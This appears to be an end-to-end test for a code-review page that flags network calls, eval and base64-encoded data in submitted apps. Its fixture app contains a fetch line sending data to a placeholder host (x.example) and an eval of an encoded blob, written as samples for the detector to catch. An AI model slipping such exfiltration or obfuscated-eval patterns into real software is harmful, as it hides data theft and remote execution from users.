import { proposeApp } from '../test-support/proposeApp.ts';
import { expect, test } from './fixtures.ts';
import { noSeriousViolations } from './noSeriousViolations.ts';
import { createRoom } from './rooms.ts';

// Real base64 of random bytes mixes cases and digits.
const B64 = 'k3J9vQ2xLp8Zr0aYw5TnB7uHc1MdE4sFg6OiRj'.repeat(4);

test('the card lists what the code reaches for and signs of obfuscation, each linking to its line', async ({
  owner,
  ownerPage: page,
  request,
}) => {
  const roomId = await createRoom(request, `Aids ${Date.now()}`);
  const padding = Array.from({ length: 60 }, (_, i) => `export const v${i} = ${i};`).join('\n');
  const proposal = await proposeApp(owner, roomId, {
    name: 'Team list',
    files: {
      'src/App.tsx': [
        "import { useStoredState } from '@room/sdk';",
        "import { blob } from './data.ts';",
        'export default function App() {',
        "  const [team] = useStoredState('team', []);",
        "  fetch('https://x.example/?d=' + blob);",
        '  return <p>{String(team)}</p>;',
        '}',
      ].join('\n'),
      // The encoded run sits far down a long file: its link must scroll the box to it.
      'src/data.ts': `${padding}\nexport const blob = "${B64}";\nexport const run = () => eval(blob);\n`,
    },
  });
  await page.goto(`/rooms/${roomId}/review`);
  const card = page.getByRole('article', { name: 'Team list' });
  const reach = card.getByRole('region', { name: 'What the code reaches for' });
  await expect(reach.getByRole('listitem')).toHaveText([
    'Network (the frame blocks it): fetch · src/App.tsx line 5',
    'Runs text as code: eval · src/data.ts line 62',
    "Storage key: useStoredState('team') · src/App.tsx line 4",
  ]);
  await expect(reach).toContainText("The app's frame blocks every network request");
  const signs = card.getByRole('region', { name: 'Signs of obfuscation' });
  await expect(signs.getByRole('listitem')).toHaveText([
    `Encoded data: base64, ${B64.length} characters · src/data.ts line 61`,
  ]);

  // The files are open but line 61 is down the file's box: the link brings it into view, marked as the target.
  const row = card.locator(`[id="p-${proposal.id}-src.2fdata.2ets-L61"]`);
  await expect(row).not.toBeInViewport();
  await signs.getByRole('link', { name: 'src/data.ts line 61' }).click();
  await expect(row).toBeInViewport();
  await expect(row).toBeFocused();
  await expect(row).toContainText(B64.slice(0, 20));
  expect(await page.evaluate(() => location.hash)).toBe(`#p-${proposal.id}-src.2fdata.2ets-L61`);
  expect(await row.evaluate((el) => el.matches(':target'))).toBe(true);

  // The same link works as an address: a new page opened on it shows the line.
  await page.goto(`/rooms/${roomId}/review#p-${proposal.id}-src.2fApp.2etsx-L5`);
  const fetchRow = page.locator(`[id="p-${proposal.id}-src.2fApp.2etsx-L5"]`);
  await expect(fetchRow).toBeInViewport();
  await expect(fetchRow).toContainText("fetch('https://x.example/?d=' + blob);");
  await noSeriousViolations(page);
});
